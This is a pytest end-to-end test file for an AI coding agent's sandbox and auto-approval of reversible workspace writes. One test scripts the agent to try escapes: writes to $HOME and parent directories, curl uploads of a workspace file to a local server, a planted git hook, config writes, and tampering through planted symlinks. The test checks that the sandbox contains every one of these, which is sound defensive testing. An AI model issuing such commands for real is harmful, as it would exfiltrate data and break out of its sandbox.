"""``[tools.sandbox] writes = "workspace"`` with ``[review] reversible = "auto"``, through the real CLI.

No person (no terminal, no ``--yes``) and no reviewer models: a call that reaches the human step
is rejected. So a workspace write that happens was approved without a question; the review
event says by whom. Everything else — a path outside, ``$HOME``, the network — must have no
effect: a marker file stays absent, a local HTTP server's log stays empty.
"""

from __future__ import annotations

import contextlib
import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import Cli, Result, isolated_env
from tests.support.sandbox import require_bubblewrap

AUTO = '[agent]\nmax_rejections = 100\n\n[tools.sandbox]\nwrites = "workspace"\n\n[review]\nreversible = "auto"\n'


@contextlib.contextmanager
def http_server() -> Iterator[tuple[int, list[str]]]:
    """A local HTTP server: yields its port and the log of the requests it received."""
    log: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            log.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], log
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


@pytest.fixture
def lab(tmp_path: Path) -> Cli:
    ws = tmp_path / "ws"
    ws.mkdir()
    (tmp_path / "home").mkdir()
    (ws / "f.txt").write_text("alpha\n")
    (ws / "g.txt").write_text("one\n")
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
    return Cli(ws, isolated_env(tmp_path))


def run(cli: Cli, config: str, turns: list[list[dict[str, Any]]], *args: str) -> Result:
    (cli.workspace / "quorum.toml").write_text(config)
    script = cli.workspace.parent / "script.json"
    calls = [{"tool_calls": turn} for turn in turns]
    script.write_text(json.dumps({"turns": [*calls, {"text": "done"}]}))
    return cli("run", *args, "--model", f"scripted:{script}", "change things", timeout=120)


def call(call_id: str, name: str, **arguments: Any) -> dict[str, Any]:
    return {"id": call_id, "name": name, "arguments": arguments}


def reviews(result: Result) -> dict[str, dict[str, Any]]:
    return {e["call_id"]: e for e in result.events() if e["type"] == "review"}


WRITES = [
    [call("r", "read_file", path="f.txt")],
    [
        call("w", "write_file", path="new.txt", content="new\n"),
        call("e", "edit_file", path="f.txt", old_text="alpha", new_text="beta"),
        call("sed", "run_command", command="sed -i s/one/two/ g.txt"),
        call("echo", "run_command", command="echo hi > echoed.txt"),
        call("mkdir", "run_command", command="mkdir -p d/e && echo x > d/e/x"),
    ],
]


def test_workspace_writes_run_without_a_question_and_say_reversible(lab: Cli) -> None:
    require_bubblewrap()
    result = run(lab, AUTO, WRITES, "--json")
    assert result.code == 0, result.stderr
    ws = lab.workspace
    assert (ws / "new.txt").read_text() == "new\n"
    assert (ws / "f.txt").read_text() == "beta\n"
    assert (ws / "g.txt").read_text() == "two\n"
    assert (ws / "echoed.txt").read_text() == "hi\n"
    assert (ws / "d" / "e" / "x").read_text() == "x\n"
    decided = reviews(result)
    for call_id in ("w", "e", "sed", "echo", "mkdir"):
        review = decided[call_id]
        assert review["approved"] and review["decided_by"] == "reversible", review
        assert review["reason"] == "sandboxed, checkpointed"


def test_what_was_approved_as_reversible_is_undone_by_quorum_undo(lab: Cli) -> None:
    require_bubblewrap()
    ws = lab.workspace
    (ws / "quorum.toml").write_text(AUTO)
    before = {p.name: p.read_bytes() for p in ws.iterdir() if p.is_file()}
    result = run(lab, AUTO, WRITES, "--json")
    assert result.code == 0, result.stderr
    run_id = next(e["run_id"] for e in result.events() if e["type"] == "run_started")
    assert (ws / "g.txt").read_text() == "two\n"
    undone = lab("undo", run_id, "--yes")
    assert undone.code == 0, undone.stdout + undone.stderr
    assert {p.name: p.read_bytes() for p in ws.iterdir() if p.is_file()} == before
    assert not (ws / "d").exists()


def test_with_checkpoints_disabled_nothing_is_approved_unasked(lab: Cli) -> None:
    require_bubblewrap()
    result = run(lab, AUTO + "\n[checkpoints]\nenabled = false\n", WRITES, "--json")
    assert result.code == 0, result.stderr
    assert not (lab.workspace / "new.txt").exists() and (lab.workspace / "g.txt").read_text() == "one\n"
    assert all(not r["approved"] for r in reviews(result).values())
    doctor = lab("doctor", "--json")
    checks = {c["check"]: c for c in map(json.loads, doctor.stdout.splitlines())}
    assert "checkpoints are disabled" in checks["reversible"]["detail"]


def test_the_human_output_says_how_to_undo(lab: Cli) -> None:
    require_bubblewrap()
    result = run(lab, AUTO, [[call("echo", "run_command", command="echo hi > echoed.txt")]])
    assert result.code == 0, result.stderr
    run_id = next(
        line.split()[2] for line in result.stdout.splitlines() + result.stderr.splitlines() if "● run " in line
    )
    assert f"approved: reversible (quorum undo {run_id})" in result.stdout + result.stderr
    assert (lab.workspace / "echoed.txt").read_text() == "hi\n"


def test_nothing_reaches_outside_the_workspace_or_the_network(lab: Cli, tmp_path: Path) -> None:
    require_bubblewrap()
    home = tmp_path / "home"
    (home / "victim.txt").write_text("victim\n")
    (lab.workspace / "home_link").symlink_to(home, target_is_directory=True)
    (lab.workspace / "victim_link").symlink_to(home / "victim.txt")
    with http_server() as (port, log):
        # A symbolic link planted in the workspace: the classifier sees workspace paths, the sandbox confines.
        through_links = [
            call("l1", "run_command", command="echo x > home_link/home_marker_link"),
            call("l2", "run_command", command="cp f.txt home_link/home_marker_cp"),
            call("l3", "run_command", command="chmod 777 victim_link && echo pwned >> victim_link"),
            call("l4", "run_command", command="cd home_link && touch home_marker_cd"),
        ]
        attacks = [
            call("up", "run_command", command="touch ../outside_marker"),
            call("home", "run_command", command="echo x > $HOME/home_marker"),
            call("home2", "run_command", command=f"echo x > {home}/home_marker2"),
            call("tilde", "run_command", command="touch ~/home_marker3"),
            call("curl", "run_command", command=f"curl -s http://127.0.0.1:{port}/leak > page.html"),
            call("curl2", "run_command", command=f"touch f && curl -s -d @f.txt http://127.0.0.1:{port}/post"),
            call("git", "run_command", command="echo x > .git/hooks/post-checkout"),
            call("cfg", "write_file", path=".quorum/commands/x.md", content="x"),
            call("out", "write_file", path="../outside_file", content="x"),
        ]
        result = run(lab, AUTO, [attacks + through_links], "--json")
    assert result.code == 0, result.stderr
    assert log == []
    assert (home / "victim.txt").read_text() == "victim\n" and (home / "victim.txt").stat().st_mode & 0o777 != 0o777
    assert not (tmp_path / "outside_marker").exists() and not (tmp_path / "outside_file").exists()
    assert sorted(p.name for p in home.iterdir()) == ["victim.txt"]
    assert not (lab.workspace / ".git" / "hooks" / "post-checkout").exists()
    assert not (lab.workspace / "page.html").exists() and not (lab.workspace / ".quorum").exists()
    decided = reviews(result)
    for call_id in ("up", "home", "home2", "tilde", "curl", "curl2", "git", "cfg"):
        assert not decided[call_id]["approved"] and decided[call_id]["decided_by"] != "reversible", call_id
    for call_id in ("l1", "l2", "l3", "l4"):  # approved unasked: the sandbox, not review, kept them in
        assert decided[call_id]["decided_by"] == "reversible", call_id


def test_a_deny_rule_still_refuses_its_command(lab: Cli) -> None:
    require_bubblewrap()
    deny = '\n[[review.rules]]\ndecision = "deny"\ntool = "run_command"\nmatch = { command = "sed *" }\n'
    result = run(lab, AUTO + deny, [[call("sed", "run_command", command="sed -i s/one/two/ g.txt")]], "--json")
    assert result.code == 0, result.stderr
    assert (lab.workspace / "g.txt").read_text() == "one\n"
    review = reviews(result)["sed"]
    assert not review["approved"] and review["decided_by"] == "policy"


def test_without_bubblewrap_nothing_is_approved_and_doctor_says_why(lab: Cli) -> None:
    no_sandbox = AUTO.replace('writes = "workspace"\n', 'writes = "workspace"\nprogram = "no-such-bwrap"\n')
    result = run(lab, no_sandbox, WRITES, "--json")
    assert result.code == 0, result.stderr
    assert not (lab.workspace / "new.txt").exists() and not (lab.workspace / "echoed.txt").exists()
    assert (lab.workspace / "f.txt").read_text() == "alpha\n" and (lab.workspace / "g.txt").read_text() == "one\n"
    assert all(not r["approved"] and r["decided_by"] != "reversible" for r in reviews(result).values())
    doctor = lab("doctor", "--json")
    checks = {c["check"]: c for c in map(json.loads, doctor.stdout.splitlines())}
    assert checks["reversible"]["status"] == "warn"
    assert "approves nothing: no working sandbox" in checks["reversible"]["detail"]
    assert "no-such-bwrap" in checks["reversible"]["detail"]
